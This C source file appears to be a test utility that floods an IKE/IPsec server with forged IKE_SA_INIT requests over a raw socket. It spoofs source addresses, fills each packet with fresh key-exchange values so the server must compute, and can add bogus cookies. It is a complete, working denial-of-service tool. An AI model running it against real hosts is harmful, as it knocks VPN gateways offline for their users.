// SPDX-License-Identifier: GPL-2.0
/*
 * Forged IKE_SA_INIT requests: ike-flood TARGET NETWORK COUNT SECONDS MOST [COOKIE-OCTETS]
 * Each has an SPI, a nonce, a public value and a source of its own, below NETWORK/15; all offer
 * AES-GCM-128, PRF-HMAC-SHA2-256 and Curve25519 (RFC 7296 3.3), so that a server has to compute.
 * COUNT go out evenly over SECONDS, or more slowly: what is late is not made up for in a burst.
 * Then it goes on until a SIGTERM, which may have come before, or until MOST are out. With
 * COOKIE-OCTETS each second one has a COOKIE that no server gave. Prints how many left. For
 * namespaces of a test: the sources are not those of its sender.
 */
#include <arpa/inet.h>
#include <err.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define COOKIE_MAX	64
#define HOSTS		131072u	/* of a /15 */
#define LATE		0.01	/* seconds that it may be behind, and make up for */

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t ike[512];
};

static uint8_t *flood_put(uint8_t *at, const void *from, size_t len)
{
	return (uint8_t *)memcpy(at, from, len) + len;
}

/* A payload's header: the next payload's type, and the length with the header's. */
static uint8_t *flood_header(uint8_t *at, uint8_t next, uint16_t len)
{
	const uint8_t header[] = { next, 0, (len + 4) >> 8, len + 4 };

	return flood_put(at, header, sizeof(header));
}

static uint8_t *flood_random(uint8_t *at, size_t len)
{
	if (getrandom(at, len, 0) != (ssize_t)len)
		err(1, "random octets");
	return at + len;
}

/* The message, with @cookie octets of COOKIE or without; its length. */
static size_t flood_message(uint8_t *ike, size_t cookie)
{
	static const uint8_t header[] = { 0, 0, 0, 0, 0, 0, 0, 0, 33, 0x20, 34, 0x08, 0, 0, 0, 0 };
	static const uint8_t proposal[] = {
		0, 0, 0, 36, 1, 1, 0, 3,
		3, 0, 0, 12, 1, 0, 0, 20, 0x80, 14, 0, 128,
		3, 0, 0, 8, 2, 0, 0, 5,
		0, 0, 0, 8, 4, 0, 0, 31,
	};
	static const uint8_t notify[] = { 0, 0, 0x40, 0x06 }, group[] = { 0, 31, 0, 0 };
	uint8_t *at = flood_random(ike, 8);
	uint32_t len;

	at = flood_put(at, header, sizeof(header)) + 4;
	if (cookie) {
		ike[16] = 41;
		at = flood_header(at, 33, sizeof(notify) + cookie);
		at = flood_random(flood_put(at, notify, sizeof(notify)), cookie);
	}
	at = flood_put(flood_header(at, 34, sizeof(proposal)), proposal, sizeof(proposal));
	at = flood_random(flood_put(flood_header(at, 40, 36), group, sizeof(group)), 32);
	at = flood_random(flood_header(at, 0, 32), 32);
	len = htonl(at - ike);
	memcpy(ike + 24, &len, sizeof(len));
	return at - ike;
}

/* Whether it has left: a queue that is full says no. */
static bool flood_send(int fd, const struct sockaddr_in *to, uint32_t network, size_t cookie)
{
	struct packet p = { .ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP } };
	size_t len = sizeof(p.ip) + sizeof(p.udp) + flood_message(p.ike, cookie);

	p.ip.saddr = htonl(network | (uint32_t)random() % HOSTS);
	p.ip.daddr = to->sin_addr.s_addr;
	p.udp.source = htons(500);
	p.udp.dest = htons(500);
	p.udp.len = htons(len - sizeof(p.ip));
	return sendto(fd, &p, len, 0, (const struct sockaddr *)to, sizeof(*to)) == (ssize_t)len;
}

static double flood_now(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec + now.tv_nsec / 1e9;
}

static volatile sig_atomic_t flood_enough;

static void flood_end(int signal)
{
	(void)signal;
	flood_enough = 1;
}

/* One each @interval seconds: @count of them, then until it is enough; how many left. */
static unsigned long flood_run(int fd, const struct sockaddr_in *to, uint32_t network,
			       size_t cookie, unsigned long count, unsigned long most,
			       double interval)
{
	double due = flood_now(), now;
	unsigned long sent = 0;

	for (unsigned long n = 0; n < most && (sent < count || !flood_enough); n++) {
		while ((now = flood_now()) < due)
			usleep(1000);
		if (due < now - LATE)
			due = now - LATE;
		due += interval;
		sent += flood_send(fd, to, network, n % 2 ? cookie : 0);
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	const struct sigaction end = { .sa_handler = flood_end };
	unsigned long count, most, cookie, sent;
	struct in_addr network;
	double interval;
	int fd;

	if (argc < 6 || !inet_aton(argv[1], &to.sin_addr) || !inet_aton(argv[2], &network))
		errx(2, "usage: ike-flood TARGET NETWORK COUNT SECONDS MOST [COOKIE-OCTETS]");
	count = strtoul(argv[3], NULL, 10);
	most = strtoul(argv[5], NULL, 10);
	cookie = argc > 6 ? strtoul(argv[6], NULL, 10) : 0;
	if (!count || cookie > COOKIE_MAX)
		errx(2, "COUNT is not 0, and a cookie has at most %d octets", COOKIE_MAX);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || sigaction(SIGTERM, &end, NULL))
		err(1, "raw socket, or SIGTERM");
	interval = strtod(argv[4], NULL) / count;
	sent = flood_run(fd, &to, ntohl(network.s_addr), cookie, count, most, interval);
	printf("%lu\n", sent);
	return 0;
}
